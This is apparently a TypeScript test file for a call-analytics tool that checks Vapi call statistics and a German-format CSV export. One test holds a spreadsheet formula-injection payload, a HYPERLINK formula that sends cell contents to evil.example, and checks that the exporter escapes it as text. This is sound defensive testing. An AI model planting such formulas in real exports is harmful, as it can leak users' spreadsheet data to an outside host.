import { normaliseVapiCalls } from '../src/calls';
import { durationDistribution, endReasons, kpis, perDay } from '../src/pages/call-analytics/stats/call-stats';
import { callsCsv } from '../src/pages/call-analytics/table/csv-export';
import { vapiCalls } from './fixtures/vapi-calls';

const calls = normaliseVapiCalls(vapiCalls);

describe('call statistics', () => {
  it('sums up calls, durations, cost and the success rate of evaluated calls', () => {
    expect(kpis(calls)).toEqual({ calls: 3, totalSeconds: 360, averageSeconds: 120, costUsd: 0.66, successRate: 0.5, evaluated: 2 });
    expect(kpis([])).toMatchObject({ calls: 0, averageSeconds: 0, successRate: null });
  });

  it('has a point for every day of the range, quiet days included', () => {
    const days = perDay(calls, { from: '2026-11-01', to: '2026-11-04' });
    expect(days.map((day) => day.calls)).toEqual([0, 1, 1, 0]);
    expect(days[2]).toEqual({ day: '2026-11-03', calls: 1, costUsd: 0.52 });
  });

  it('buckets durations and names end reasons in German, most frequent first', () => {
    expect(durationDistribution(calls).map((bucket) => bucket.calls)).toEqual([0, 1, 1, 1, 0, 0]);
    expect(endReasons([...calls, ...calls.slice(1, 2)]).map((reason) => reason.label)).toEqual([
      'Anrufer:in hat aufgelegt',
      'Assistent hat beendet',
      'Stille, Zeit abgelaufen',
    ]);
  });

  it('exports CSV for German spreadsheets: semicolons, decimal commas, quoted text', () => {
    const csv = callsCsv(calls.slice(0, 2));
    const [header, first] = csv.replace('\uFEFF', '').split('\r\n');
    expect(header).toBe('Beginn;Ende;Art;Dauer (Sekunden);Kosten (USD);Gesprächsende;Ergebnis;Rufnummer;Zusammenfassung;Vapi-ID');
    expect(first).toBe(
      '2026-11-03T14:10:02.000Z;2026-11-03T14:14:32.000Z;Website;270;0,52;Assistent hat beendet;erfolgreich;;Termin für ein Erstgespräch vereinbart.;call-3',
    );
  });

  it('exports a summary that starts like a formula as text, so a spreadsheet does not run it', () => {
    const hostile = { ...calls[0]!, summary: '=HYPERLINK("https://evil.example/?d="&A1;"Details")' };
    const [, row] = callsCsv([hostile]).replace('\uFEFF', '').split('\r\n');
    expect(row).toContain(`;"'=HYPERLINK(""https://evil.example/?d=""&A1;""Details"")";call-3`);
  });
});
